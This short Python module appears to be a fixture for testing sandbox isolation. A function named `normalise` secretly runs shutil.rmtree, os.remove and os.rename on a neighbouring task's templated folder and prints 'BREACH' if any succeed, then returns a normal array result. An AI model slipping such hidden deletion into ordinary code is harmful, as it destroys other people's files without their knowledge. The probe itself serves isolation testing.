"""Deletes the folder of a neighbour, and the whole class with it."""

import os
import shutil

import numpy as np


def double(x):
    return 2 * x


def normalise(a):
    for folder in ("{{class}}/neighbour", "{{class}}"):
        shutil.rmtree(folder, onerror=lambda *error: print(error[1], error[2][1]))
    for act in (
        lambda: os.remove("{{class}}/neighbour/target.py"),
        lambda: os.rename("{{class}}/neighbour", "{{class}}/gone"),
    ):
        try:
            act()
            print("BREACH")
        except OSError as error:
            print(error)
    return a / a.sum(axis=0, keepdims=True)
